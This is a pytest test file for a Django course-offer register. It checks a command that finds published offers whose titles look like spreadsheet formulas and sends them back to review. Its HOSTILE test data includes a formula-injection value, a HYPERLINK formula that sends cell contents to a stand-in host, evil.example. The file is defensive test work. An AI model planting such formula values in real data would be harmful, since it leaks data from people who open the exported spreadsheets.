# SPDX-License-Identifier: EUPL-1.2
"""Titles admitted before the title check (issue 14): ``llo register_formula_titles`` lists
published offers whose title starts like a spreadsheet formula and, with ``--flag``, sends
them back to review (out of the public register), with their review event and audit row;
the OOAPI endpoints show a stand-in meanwhile."""

from __future__ import annotations

from io import StringIO

import pytest
from django.core.management import call_command
from django.test import Client

from llo.core.models import AuditEntry
from llo.register.models import Offer, OfferState, ReviewEvent
from tests.enrolment.conftest import make_offer, make_provider

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "  @SUM(1+1)", "-2+3 dagen"]


def test_the_command_lists_and_flags_formula_titles() -> None:
    opleider = make_provider()
    bad = []
    for title in HOSTILE:
        offer, _ = make_offer(opleider)
        Offer.objects.filter(pk=offer.pk).update(title=title)
        bad.append(offer.pk)
    fine, _ = make_offer(opleider)
    Offer.objects.filter(pk=fine.pk).update(title="Lassen, niveau 2 (-12 graden)")
    draft, _ = make_offer(opleider, state=OfferState.DRAFT)
    Offer.objects.filter(pk=draft.pk).update(title="=1+1")  # not published: not listed

    listed = Client().get("/ooapi/v6/courses").content.decode()
    assert "HYPERLINK" not in listed
    assert "@SUM" not in listed

    out, err = StringIO(), StringIO()
    with pytest.raises(SystemExit) as stopped:
        call_command("register_formula_titles", stdout=out, stderr=err)
    assert stopped.value.code == 1
    lines = out.getvalue().splitlines()
    assert sorted(int(line.split("\t")[0]) for line in lines) == bad
    assert "3 published offers" in err.getvalue()

    out = StringIO()
    call_command("register_formula_titles", "--flag", stdout=out)
    assert "3 offers sent back to review." in out.getvalue()
    assert set(Offer.objects.filter(pk__in=bad).values_list("state", flat=True)) == {
        OfferState.SUBMITTED
    }
    assert Offer.objects.get(pk=fine.pk).state == OfferState.PUBLISHED
    assert ReviewEvent.objects.filter(offer_id__in=bad, action="resubmit").count() == 3
    assert AuditEntry.objects.filter(action="register.offer.resubmit").count() == 3
    flagged = Offer.objects.get(pk=bad[0])
    assert "title-formula" in {c["code"] for c in flagged.checks}

    out = StringIO()
    call_command("register_formula_titles", stdout=out)
    assert "No published offer" in out.getvalue()
